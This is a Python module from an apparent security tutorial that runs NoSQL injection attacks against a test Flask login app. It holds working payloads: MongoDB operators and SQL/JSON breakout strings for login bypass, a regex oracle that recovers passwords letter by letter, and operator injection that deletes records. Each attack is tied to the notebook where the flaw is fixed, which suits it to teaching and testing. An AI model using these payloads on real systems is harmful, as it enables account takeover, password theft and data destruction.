"""Query operators in a JSON body: MongoDB reads them where the app meant a text."""

import json
import string
from collections.abc import Callable
from typing import Any

from flasklogin_tutorial.attacks import sources, web
from flasklogin_tutorial.attacks.attack import attack
from flasklogin_tutorial.attacks.families.bad_input import logs_in_by_json
from flasklogin_tutorial.attacks.outcome import NotTried, Outcome, got_in, held
from flasklogin_tutorial.attacks.site import JSON
from flasklogin_tutorial.attacks.target import Target
from flasklogin_tutorial.visit import Browser, Reply

_NOTEBOOK = "08_injection"

#: The characters that passwords of the attacks' own users are made of, in the order of their codes.
_ALPHABET = "-" + string.digits + string.ascii_lowercase


#: Operators that any password fits.
_ANYTHING: tuple[dict[str, Any], ...] = (
    {"$ne": ""},
    {"$gt": ""},
    {"$exists": True},
    {"$regex": "."},
)


#: Names and passwords that end the text of a query in which they stand, and go on with another
#: condition: of SQL, of JavaScript, and of JSON that is put together from pieces. {name} is the
#: user's name, {field} and {password} what a record calls the name and the password.
_BREAKOUTS = (
    ("{name}' OR '1'='1", "x' OR '1'='1"),
    ("{name}' -- ", "x"),
    ('{name}" OR "1"="1', 'x" OR "1"="1'),
    ("{name}", "' || '1'=='1"),
    ("{name}", '", "{password}": {{"$ne": ""}}, "{field}": "{name}'),
)


def _log_in_with(target: Target, browser: Browser, name: Any, password: Any) -> Reply:
    """Send a login as JSON, whatever the app's own clients send."""
    method, path = target.route("login")
    body = json.dumps(target.deeds.credentials(name, password))
    return target.send(browser, method, path, body, JSON, who="not logged in")


def _log_in_by_texts(
    target: Target, name: str, won: Callable[[Browser], bool]
) -> tuple[Reply, bool]:
    """Try texts that may end the text of a query, as the app's own clients send a login.

    Args:
        target: the app.
        name: whom the query is about.
        won: tells whether a browser has got what the attacker wants.

    Returns:
        The last answer, and whether it was a success.
    """
    fields = target.names.fields
    known = {"name": name, "field": fields.name, "password": fields.password}
    for pair in _BREAKOUTS:
        browser = target.visitor()
        typed, password = (text.format(**known) for text in pair)
        answer = target.deeds.log_in(browser, typed, password, who="not logged in")
        if won(browser):
            return answer, True
    return answer, False


@attack(
    "operator-logs-in",
    "A stranger logs in without a name and without a password",
    who="Anyone who can reach the login, with one request.",
    source=sources.NOSQL_INJECTION,
    fixed_in=_NOTEBOOK,
)
def _operator_logs_in(target: Target) -> Outcome:
    person = target.people.member()
    answers = []
    for operator in ({"$ne": None}, *_ANYTHING):
        browser = target.visitor()
        answers.append(_log_in_with(target, browser, operator, operator))
        if target.senses.is_somebody(browser):
            says = "Two objects instead of strings log in as the first user there is."
            return got_in(says, answers[-1])
    answer, is_in = _log_in_by_texts(target, "x", target.senses.is_somebody)
    if is_in:
        return got_in("A text that ends the text of the query logs in as somebody.", answer)
    answers.append(answer)
    if not logs_in_by_json(target, person):
        return held("The login takes no objects, and texts stayed texts.", *answers)
    return held("The objects were refused.", *answers)


@attack(
    "operator-picks-a-user",
    "A stranger logs in as a user of their choice without the password",
    who="Anyone who knows a user's name.",
    source=sources.MONGOENGINE_INJECTION,
    fixed_in=_NOTEBOOK,
)
def _operator_picks_a_user(target: Target) -> Outcome:
    victim, browser = target.people.member(), target.visitor()
    for operator in _ANYTHING:
        answer = _log_in_with(target, browser, victim.name, operator)
        if target.senses.is_in(browser, victim):
            return got_in(f"{json.dumps(operator)} stands for any password.", answer)

    def is_victim(browser: Browser) -> bool:
        return target.senses.is_in(browser, victim)

    typed, is_in = _log_in_by_texts(target, victim.name, is_victim)
    if is_in:
        return got_in("A text that ends the text of the query stands for any password.", typed)
    return held("No operator stood for a password.", answer, typed)


@attack(
    "regex-oracle",
    "A stranger asks for a password letter by letter",
    who="Anyone who knows a user's name, with some hundred requests.",
    source=sources.NOSQL_INJECTION,
    fixed_in=_NOTEBOOK,
)
def _regex_oracle(target: Target) -> Outcome:
    victim = target.people.member()
    if not logs_in_by_json(target, victim):
        raise NotTried("The login takes no JSON, so nobody can send it a pattern as an object.")
    asked: list[Reply] = []

    def ask(pattern: str) -> frozenset[str]:
        answer = _log_in_with(target, target.visitor(), victim.name, {"$regex": pattern})
        asked.append(answer)
        return web.traits(answer.response, answer.response.text)

    # An app may put something new into every answer: only what is the same twice tells anything.
    pairs = [(ask("^"), ask("^(?!)")) for _ in range(2)]
    signs = web.telling(*(list(one) for one in zip(*pairs, strict=True)))
    if not signs:
        return held("A pattern that fits and one that cannot are answered alike.", *asked)
    yes = pairs[0][0] & signs
    found = ""
    while ask(f"^{found}$") & signs != yes and len(found) < 2 * len(victim.password):
        found += _next_letter(found, lambda pattern: ask(pattern) & signs == yes)
    if found == victim.password:
        hundreds = len(asked) // 100 + 1  # the exact number depends on the letters
        says = f"The password was recovered with fewer than {hundreds}00 questions."
        return got_in(says, asked[0], asked[1], asked[-1])
    if any(answer.response.status_code == 429 for answer in asked):
        return held("The answers differ, and a limit stops whoever asks.", asked[0], asked[-1])
    if found and victim.password.startswith(found[:4]):
        raise NotTried("The answers differ, and why they did not tell the password is not seen.")
    return held("The answers differ, and do not tell the password.", asked[0], asked[1])


def _next_letter(found: str, fits: Callable[[str], bool]) -> str:
    """Halve the alphabet until one letter is left."""
    letters = _ALPHABET
    while len(letters) > 1:
        half = letters[: len(letters) // 2]
        letters = half if fits(f"^{found}[{half}]") else letters[len(half) :]
    return letters


@attack(
    "operator-in-a-record",
    "A pattern instead of a name deletes the records that it fits",
    who="Anyone who may delete one record.",
    source=sources.MONGOENGINE_INJECTION,
    fixed_in=_NOTEBOOK,
)
def _operator_in_a_record(target: Target) -> Outcome:
    target.doors.must_open("delete")
    if target.names.send == "form":
        raise NotTried("This app takes forms, and a form has no place for an object.")
    if "{" in target.names.routes.delete:
        raise NotTried("The path names the record, and has no place for an object.")
    attacker, victim = target.people.writer(), target.people.user()
    method, path = target.route("delete", victim.name)
    who = f"logged in as {attacker.name}"
    answers = []
    # Only this one record: the app may have real users.
    for pattern in ({"$regex": f"^{victim.name}$"}, {"$in": [victim.name]}, {"$eq": victim.name}):
        body = json.dumps({target.names.fields.name: pattern})
        answers.append(target.send(attacker.browser, method, path, body, JSON, who=who))
        if not target.senses.exists(victim):
            says = "The pattern was read as a query, and the record is gone."
            return got_in(says, answers[-1])
    return held("The record is still there.", *answers)
